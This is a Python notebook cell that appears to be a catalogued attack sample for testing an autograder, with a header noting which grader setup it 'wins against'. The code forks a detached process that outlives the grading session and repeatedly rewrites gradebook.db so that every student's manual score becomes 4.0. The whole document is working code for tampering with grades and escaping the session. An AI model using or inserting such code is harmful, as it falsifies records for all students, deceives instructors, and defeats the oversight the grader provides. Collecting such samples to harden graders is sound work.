# Tries: A process in a session of its own waits until the grading is over and rewrites gradebook.db then.
# Wins against: stock
# Uses: class_folder
# %% cell: q1_minimum
import sys
import time
import os
import sqlite3


database = course() / "gradebook.db"
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    for _ in range(60):
        time.sleep(0.5)
        try:
            with sqlite3.connect(database) as connection:
                connection.execute("UPDATE grade SET manual_score = 4.0")
        except sqlite3.Error:
            pass
    os._exit(0)
